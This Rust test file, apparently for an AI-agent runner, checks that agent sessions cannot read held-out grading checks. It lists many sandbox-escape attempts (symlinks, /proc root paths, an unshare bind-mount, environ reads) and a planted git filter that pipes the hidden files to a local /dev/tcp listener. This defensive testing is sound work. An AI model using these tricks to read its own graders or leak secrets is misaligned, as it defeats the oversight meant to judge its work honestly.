//! The check that no session can read: who tries to read it, what happens if it fails, and when it is refused.

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use serde_json::{Value, json};

use crate::auto::{compile, git, report};
use crate::kit::{Ran, TestContext, binary};
use crate::notes::Notes;
use crate::scripted::also;

/// A word of the held-out files and of the preferences that no session may see.
const SENTINEL: &str = "sentinel-4711";

/// A project with a held-out check that fails until `src/extra.txt` exists.
struct Scene {
    context: TestContext,
    agent: PathBuf,
    /// The prompts of all sessions.
    prompts: Notes,
    /// The notes that scripts of sessions send.
    notes: Notes,
}

impl Scene {
    /// None if the kernel has no fence, with a message.
    fn new() -> Option<Self> {
        let context = TestContext::on_disk();
        let probe = context.command(binary()).args(["__fence", "--", "true"]).output().unwrap();
        if !probe.status.success() {
            let _ = writeln!(std::io::stderr(), "held-out checks: not run, since there is no fence");
            return None;
        }
        context.write("README.md", "# P\n");
        git(&context, &["init", "--quiet", "--initial-branch=main"]);
        git(&context, &["add", "--all"]);
        git(&context, &["commit", "--quiet", "--message=start"]);
        std::fs::write(context.home().join("brief.md"), "Make a shelf of files.\n").unwrap();
        // The agent sends every prompt as a note.
        let agent = context.home().join("agent");
        let (prompts, notes) = (Notes::new(), Notes::new());
        let text = format!(
            "#!/bin/bash\nprintf '%s\\n' \"$@\" > /dev/tcp/127.0.0.1/{}\nexec '{}' \"$@\"\n",
            prompts.port(),
            compile::fake_agent().display()
        );
        std::fs::write(&agent, text).unwrap();
        std::fs::set_permissions(&agent, PermissionsExt::from_mode(0o755)).unwrap();
        let scene = Self { context, agent, prompts, notes };
        scene.hold("test -e src/extra.txt");
        scene.prefer(&scene.entry());
        Some(scene)
    }

    fn held(&self) -> PathBuf {
        self.context.home().join("held")
    }

    fn preferences(&self) -> PathBuf {
        self.context.home().join(".gsd/PREFERENCES.md")
    }

    fn hold(&self, line: &str) {
        std::fs::create_dir_all(self.held()).unwrap();
        std::fs::write(self.held().join("check.sh"), format!("# {SENTINEL}\necho {SENTINEL}\n{line}\n")).unwrap();
        std::fs::write(self.held().join(format!("{SENTINEL}.txt")), SENTINEL).unwrap();
    }

    /// The entry for the project. The command can write only in its temporary folder.
    fn entry(&self) -> String {
        format!(
            "  - repository: {}\n    folder: {}\n    command: touch {SENTINEL} 2>/dev/null && exit 9; echo x > \"$TMPDIR/x\" && sh \
             \"$GSD_HELD_OUT/check.sh\"\n",
            self.context.project().display(),
            self.held().display()
        )
    }

    fn prefer(&self, entries: &str) {
        std::fs::create_dir_all(self.preferences().parent().unwrap()).unwrap();
        std::fs::write(self.preferences(), format!("---\nheld_out:\n{entries}---\n")).unwrap();
    }

    /// Runs with sessions that do the work of their unit, and then what the first matching row says.
    fn run(&self, words: &[&str], rows: &[Value]) -> Ran {
        let script = self.context.temporary().join("script.json");
        let mut rows = rows.to_vec();
        rows.push(json!({ "steps": [{ "ideal": true }] }));
        for row in &mut rows {
            row["steps"].as_array_mut().unwrap().push(json!({ "tool": "Write" }));
        }
        std::fs::write(&script, Value::from(rows).to_string()).unwrap();
        let brief = self.context.home().join("brief.md").display().to_string();
        let agent = self.agent.display().to_string();
        let words = words.iter().map(|word| if *word == "BRIEF" { brief.clone() } else { (*word).to_owned() });
        let words: Vec<String> =
            words.chain(["--runner", "fake", "--runner-program", &agent].map(str::to_owned)).collect();
        let [held, preferences] = [self.held(), self.preferences()].map(|path| path.display().to_string());
        let (script, program) = (script.display().to_string(), binary().display().to_string());
        let variables = [
            ("FAKE_SHAPE", "2x2"),
            ("FAKE_SCRIPT", &*script),
            ("FAKE_GSD_TOOLS", &*program),
            ("HELD", &*held),
            ("PREFS", &*preferences),
        ];
        self.context.gsd_with(words, &variables, "")
    }

    fn prompts(&self) -> String {
        self.prompts.told()
    }

    fn tip(&self) -> String {
        git(&self.context, &["rev-parse", "main"])
    }

    /// The places outside the held-out files that contain the sentinel.
    fn leaks(&self) -> Vec<String> {
        let is_held = |path: &std::path::Path| path.starts_with(self.held()) || path == self.preferences();
        let files = walkdir::WalkDir::new(self.context.everything()).into_iter().filter_map(Result::ok);
        let files = files.filter(|entry| entry.file_type().is_file() && !is_held(entry.path()));
        let has = |path: &std::path::Path| {
            std::fs::read(path).is_ok_and(|bytes| String::from_utf8_lossy(&bytes).contains(SENTINEL))
        };
        let mut found: Vec<String> =
            files.filter(|entry| has(entry.path())).map(|entry| entry.path().display().to_string()).collect();
        if git(&self.context, &["log", "--all", "--patch", "--format=%B"]).contains(SENTINEL) {
            found.push("the history".to_owned());
        }
        found
    }
}

const LAST: &str = "execute-task M001/S01/T02";
const EXTRA: &str = "echo more > src/extra.txt";

/// Each prints something of the held-out files if it may read it.
const READS: &[&str] = &[
    "cat $HELD/check.sh",
    "ls $HELD",
    "(cd $HELD && cat check.sh)",
    "sh $HELD/check.sh",
    "bash -c \". $HELD/check.sh\"",
    "ln -s $HELD way && cat way/check.sh",
    "ln -s $HELD/check.sh way && cat way",
    "ln $HELD/check.sh twin && cat twin",
    "cp -r $HELD copy && cat copy/check.sh",
    "cat /proc/self/root/$HELD/check.sh",
    "cat /proc/self/cwd/../home/held/check.sh /proc/self/root$HELD/check.sh",
    "git diff --no-index /dev/null $HELD/check.sh",
    "cd $HELD && git grep --no-index -h sentinel",
    "git hash-object -w $HELD/check.sh | git cat-file --batch; git diff --no-index --no-renames $HELD .",
    "tar cf - $HELD 2>/dev/null",
    "find / -xdev -path '*/held/*' -print 2>/dev/null | head -3",
    "python3 -c 'import os; print(open(os.environ[\"HELD\"] + \"/check.sh\").read())'",
    "python3 -c 'import os; print(os.listdir(os.environ[\"HELD\"]))'",
    "cat $PREFS",
    "ln -s $PREFS way && cat way",
    "ln $PREFS twin && cat twin",
    "cat /proc/self/root/$PREFS",
    "git diff --no-index /dev/null $PREFS",
];

/// Each would read it in a way that not every system has, or asks this program.
const MORE: &[&str] = &[
    "mv $HELD moved && cat moved/check.sh",
    "mv $PREFS moved && cat moved",
    "mkdir m && unshare --user --map-root-user --mount sh -c 'mount --bind $HELD m && cat m/check.sh'",
    "cat /proc/$PPID/root/$HELD/check.sh",
    "for p in /proc/[0-9]*; do cat $p/root/$HELD/check.sh; done",
    "cat /proc/$PPID/environ /proc/$PPID/cmdline /proc/self/environ",
    "$FAKE_GSD_TOOLS auto status",
    "$FAKE_GSD_TOOLS auto status --json",
    "$FAKE_GSD_TOOLS auto log --all --limit 1000 --json",
    "$FAKE_GSD_TOOLS auto rules --explain",
    "$FAKE_GSD_TOOLS auto prompt execute-task",
    "$FAKE_GSD_TOOLS config-get held_out",
    "$FAKE_GSD_TOOLS __fence -- cat $HELD/check.sh",
];

#[test]
fn each_of_these_shows_the_held_out_files_if_nothing_hides_them() {
    for line in READS {
        let Some(scene) = Scene::new() else { return };
        let (held, preferences) = (scene.held(), scene.preferences());
        let mut shell = scene.context.command("bash");
        let output = shell.args(["-c", line]).env("HELD", held).env("PREFS", preferences).output().unwrap();
        let said = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(said.contains(SENTINEL), "{line}: {said} {}", String::from_utf8_lossy(&output.stderr));
    }
}

#[test]
fn no_session_no_check_and_no_filter_reads_the_held_out_files() {
    let Some(scene) = Scene::new() else { return };
    let port = scene.notes.port();
    let tell = format!("bash -c 'cat > /dev/tcp/127.0.0.1/{port}'");
    // A filter of the user whose program an agent wrote.
    let filter = format!("cat $HELD/* $PREFS 2>/dev/null | {tell}; echo filter-ran | {tell}; cat");
    git(&scene.context, &["config", "filter.leak.clean", &filter]);
    scene.context.write(".gitattributes", "*.up filter=leak\n");
    git(&scene.context, &["add", "--all"]);
    git(&scene.context, &["commit", "--quiet", "--message=filter"]);
    let tries: Vec<String> = READS
        .iter()
        .chain(MORE)
        .enumerate()
        .map(|(number, line)| {
            format!(
                "mkdir -p $TMPDIR/{number} && cd $TMPDIR/{number} && cat > line <<'END'\n{line}\nEND\n\
                 bash line > said 2>&1; grep -q 'sentinel-47[1]1' said && note 'leaked {number}'; cd \"$WORK\"\n"
            )
        })
        .collect();
    let tries = tries.concat();
    let script = format!(
        "note() {{ bash -c \"echo $* > /dev/tcp/127.0.0.1/{port}\"; }}; WORK=$PWD; {tries}\ncp README.md $TMPDIR/ && mktemp > /dev/null && git status > /dev/null && $FAKE_GSD_TOOLS auto status > \
         /dev/null && note fine"
    );
    let check = format!(
        "{script}\n{EXTRA}\necho x > a.up\nfor f in checks/*.sh; do cat >> $f <<'END'\ncat \"$HELD\"/* \"$PREFS\" 2>/dev/null | {tell}; \
         echo check-ran | {tell}; cat src/s01_t01.txt > /dev/null\nEND\ndone"
    );
    let rows = [also("execute-task *", None, &check), also("*", None, &script)];
    let ran = scene.run(&["auto", "run", "--brief", "BRIEF"], &rows);
    let report = report(&ran);
    assert_eq!(report["stop"]["cause"], "complete", "{report:#}\n{}", ran.stderr);
    let told = scene.notes.told();
    let leaked = told.lines().filter_map(|line| line.strip_prefix("leaked "));
    let leaked: Vec<&&str> =
        leaked.map(|number| READS.iter().chain(MORE).nth(number.parse().unwrap()).unwrap()).collect();
    assert!(leaked.is_empty(), "{leaked:?}");
    assert_eq!(told.matches("fine\n").count(), 7, "every session goes on with its work");
    assert!(told.contains("check-ran\n") && told.contains("filter-ran\n"), "{}", ran.stderr);
    assert!(!told.contains(SENTINEL), "{told}");
    assert_eq!(scene.leaks(), Vec::<String>::new(), "{}", ran.stderr);
    assert!(!ran.stderr.contains(SENTINEL) && !ran.stderr.contains("/held"), "{}", ran.stderr);
}

#[test]
fn a_slice_whose_held_out_check_fails_is_tried_again_by_a_session_that_learns_nothing_else() {
    let Some(scene) = Scene::new() else { return };
    let ran = scene.run(&["auto", "run", "--brief", "BRIEF"], &[also(LAST, Some(2), EXTRA)]);
    let report = report(&ran);
    assert_eq!((ran.code, &report["stop"]["cause"]), (0, &json!("complete")), "{report:#}\n{}", ran.stderr);
    assert_eq!(report["sessions"], 8, "one attempt more");
    let told: Vec<&str> = ran.stderr.lines().filter(|line| line.contains("held-out")).collect();
    let expected = [
        "  held-out check of slice S01: failed",
        "  does not count: the held-out check of slice S01 failed",
        "  held-out check of slice S01: passed",
        "  held-out check of slice S02: passed",
        "  held-out check of candidate: passed",
    ];
    assert_eq!(told, expected, "{}", ran.stderr);
    let prompts = scene.prompts();
    assert_eq!(prompts.matches("the held-out check of slice S01 failed").count(), 1, "{prompts}");
    for secret in [SENTINEL, "GSD_HELD_OUT", "/held", "check.sh\""] {
        assert!(!prompts.contains(secret), "{secret}: {prompts}");
    }
    let status = scene.context.gsd(["auto", "status"]).json();
    let rows = |what: &str| status["checks"][what].as_array().unwrap().clone();
    let places =
        |rows: &[Value]| -> Vec<String> { rows.iter().map(|row| row["place"].as_str().unwrap().to_owned()).collect() };
    assert_eq!(places(&rows("held_out")), ["slice S01", "slice S02", "candidate"], "{status:#}");
    assert!(rows("held_out").iter().all(|row| row["passed"] == true && row["exit_code"] == 0), "{status:#}");
    assert_eq!(places(&rows("visible")).last().unwrap(), "candidate", "{status:#}");
    let log = scene.context.gsd(["auto", "log", "--all", "--limit", "1000"]).json();
    let entries: Vec<&Value> =
        log["entries"].as_array().unwrap().iter().filter(|row| row["entry"]["event"] == "held-out").collect();
    assert_eq!(entries.len(), 4, "{log:#}");
    assert!(entries[0]["entry"]["exit_code"] == 1 && entries[0]["entry"]["passed"] == false, "{log:#}");
    let proof = scene.context.gsd(["auto", "proof"]).json();
    let held_out =
        proof.pointer("/proofs/0/statement/predicate/heldOut").or(proof.pointer("/statement/predicate/heldOut"));
    assert!(proof.to_string().contains("\"held-out\""), "{proof:#} {held_out:?}");
    assert!(!proof.to_string().contains("no held-out checks were run"), "{proof:#}");
    assert_eq!(scene.leaks(), Vec::<String>::new());
}

#[test]
fn attempts_at_a_slice_end_and_the_printed_command_continues() {
    let Some(scene) = Scene::new() else { return };
    let before = scene.tip();
    let wrong = also(LAST, None, "echo \"$GSD_UNIT_ATTEMPT\" > src/wrong.txt");
    let ran = scene.run(&["auto", "run", "--brief", "BRIEF"], &[wrong]);
    let stop = report(&ran)["stop"].clone();
    assert_eq!((ran.code, &stop["cause"]), (12, &json!("held-out-failed")), "{stop:#}\n{}", ran.stderr);
    assert_eq!(scene.tip(), before);
    assert_eq!(stop["next"], "gsd-tools auto run");
    assert!(!stop.to_string().contains("/held") && !stop.to_string().contains(SENTINEL), "{stop:#}");
    let rest = scene.run(&["auto", "run"], &[also(LAST, None, EXTRA)]);
    assert_eq!(report(&rest)["stop"]["cause"], "complete", "{}", rest.stderr);
}

#[test]
fn a_pass_by_a_person_does_not_pass_the_held_out_check() {
    let Some(scene) = Scene::new() else { return };
    let ran = scene.run(&["auto", "run", "--brief", "BRIEF"], &[]);
    assert_eq!(report(&ran)["stop"]["cause"], "held-out-failed", "{}", ran.stderr);
    scene.context.gsd(["auto", "verdict", "M001/S01/T02", "pass", "--rationale", "it is fine"]).success();
    let ran = scene.run(&["auto", "run"], &[]);
    let stop = report(&ran)["stop"].clone();
    assert_eq!((ran.code, &stop["cause"]), (12, &json!("held-out-failed")), "{stop:#}\n{}", ran.stderr);
    std::fs::write(scene.context.project().join(".gsd/worktrees/M001/src/extra.txt"), "by hand\n").unwrap();
    let rest = scene.run(&["auto", "run"], &[]);
    assert_eq!(report(&rest)["stop"]["cause"], "complete", "{}", rest.stderr);
}

#[test]
fn a_merge_that_fails_the_held_out_check_does_not_land() {
    let Some(scene) = Scene::new() else { return };
    scene.hold("test ! -e wrong");
    let first = scene.run(&["auto", "run", "--brief", "BRIEF", "--max-units", "2"], &[]);
    assert_eq!(report(&first)["stop"]["cause"], "units-done", "{}", first.stderr);
    scene.context.write("wrong", "x\n");
    git(&scene.context, &["add", "wrong"]);
    git(&scene.context, &["commit", "--quiet", "--message=wrong"]);
    let before = scene.tip();
    let ran = scene.run(&["auto", "run"], &[]);
    let stop = report(&ran)["stop"].clone();
    assert_eq!((ran.code, &stop["cause"]), (12, &json!("held-out-failed")), "{stop:#}\n{}", ran.stderr);
    assert!(stop["text"].as_str().unwrap().contains("on the merge with the target"), "{stop:#}");
    assert_eq!((scene.tip(), &stop["next"]), (before, &json!("gsd-tools auto run")));
    git(&scene.context, &["rm", "--quiet", "wrong"]);
    git(&scene.context, &["commit", "--quiet", "--message=right"]);
    let rest = scene.run(&["auto", "run"], &[]);
    assert_eq!(report(&rest)["stop"]["cause"], "complete", "{}", rest.stderr);
}

#[test]
fn a_held_out_check_that_is_readable_or_unclear_keeps_a_run_from_starting() {
    let Some(scene) = Scene::new() else { return };
    let (project, held) = (scene.context.project().display().to_string(), scene.held().display().to_string());
    let entry = |folder: &str| format!("  - {{ repository: {project}, folder: {folder}, command: 'true' }}\n");
    std::fs::create_dir_all(scene.context.project().join("inside")).unwrap();
    std::os::unix::fs::symlink(scene.context.project().join("inside"), scene.context.home().join("link")).unwrap();
    std::fs::create_dir_all(scene.context.temporary().join("held")).unwrap();
    let home = scene.context.home().display().to_string();
    let rows: Vec<(String, &[&str], &str)> = vec![
        (entry(&held), &["--no-fence"], "without a fence every session could read the held-out check"),
        (entry("held"), &[], "`held` is not an absolute path"),
        (entry(&format!("{held}/none")), &[], "is not a folder"),
        (entry(&format!("{project}/inside")), &[], "is in the repository"),
        (entry(&format!("{home}/link")), &[], "is in the repository"),
        (entry(&home), &[], "which sessions and checks need"),
        (
            entry(&scene.context.temporary().join("held").display().to_string()),
            &[],
            "where sessions and checks may write",
        ),
        (entry(&held).repeat(2), &[], "two entries of `held_out` are for this repository"),
        (format!("  - {{ repository: {project}, folder: {held} }}\n"), &[], "entry 1 of `held_out` has no `command`"),
    ];
    for (entries, words, said) in rows {
        scene.prefer(&entries);
        let ran = scene.run(&[&["auto", "run", "--brief", "BRIEF"], words].concat(), &[]);
        assert_eq!(ran.code, 64, "{said}: {}", ran.stderr);
        assert!(ran.stderr.contains("`~/.gsd/PREFERENCES.md` line 2: `held_out`: "), "{said}: {}", ran.stderr);
        assert!(ran.stderr.contains(said), "{said}: {}", ran.stderr);
        assert!(!scene.context.project().join(".gsd/worktrees").exists(), "{said}");
    }
    // An entry for another repository changes nothing.
    scene.prefer(&entry(&held).replace(&project, "/no/such/project"));
    let ran = scene.run(&["auto", "run", "--brief", "BRIEF", "--no-fence"], &[]);
    assert_eq!(report(&ran)["stop"]["cause"], "complete", "{}", ran.stderr);
    assert!(!ran.stderr.contains("held-out"), "{}", ran.stderr);
    let status = scene.context.gsd(["auto", "status"]).json();
    assert_eq!(status["checks"]["held_out"], json!([]), "{status:#}");
    // Everyone can read the preferences of a project.
    scene.context.write(".gsd/PREFERENCES.md", &format!("---\nheld_out:\n{}---\n", entry(&held)));
    git(&scene.context, &["add", "--all"]);
    git(&scene.context, &["commit", "--quiet", "--message=preferences"]);
    let ran = scene.run(&["auto", "run", "--brief", "BRIEF", "M002"], &[]);
    assert_eq!(ran.code, 64, "{}", ran.stderr);
    assert!(ran.stderr.contains("held-out checks are named in ~/.gsd/PREFERENCES.md"), "{}", ran.stderr);
}

#[test]
fn a_phase_whose_held_out_check_fails_is_executed_again() {
    let Some(scene) = Scene::new() else { return };
    let roadmap = "# Roadmap\n\n## v1.0 Shelf\n\n- [ ] **Phase 1: Base** - the first file\n\n### Phase 1: Base\n**Goal**: one file\n";
    scene.context.write(".planning/ROADMAP.md", roadmap);
    scene.context.write(
        ".planning/STATE.md",
        "---\nmilestone: v1.0\n---\n# State\n\n## Current Position\n\nPhase: 1 of 1 (Base)\n",
    );
    git(&scene.context, &["add", "--all"]);
    git(&scene.context, &["commit", "--quiet", "--message=roadmap"]);
    scene.context.gsd(["install", "--global", "--claude"]).success();
    let again =
        also("execute-phase 1", Some(2), "echo more > src/extra.txt; git add --all; git commit --quiet --message=more");
    let ran = scene.run(&["auto", "run"], &[again]);
    let report = report(&ran);
    assert_eq!((ran.code, &report["stop"]["cause"]), (0, &json!("complete")), "{report:#}\n{}", ran.stderr);
    assert_eq!(report["sessions"], 4, "executed twice\n{}", ran.stderr);
    let told: Vec<&str> = ran.stderr.lines().filter(|line| line.contains("held-out")).collect();
    let expected = [
        "  held-out check of phase 1: failed",
        "  does not count: the held-out check of phase 1 failed",
        "  held-out check of phase 1: passed",
        "  held-out check of candidate: passed",
    ];
    assert_eq!(told, expected, "{}", ran.stderr);
    assert_eq!(scene.leaks(), Vec::<String>::new());
}
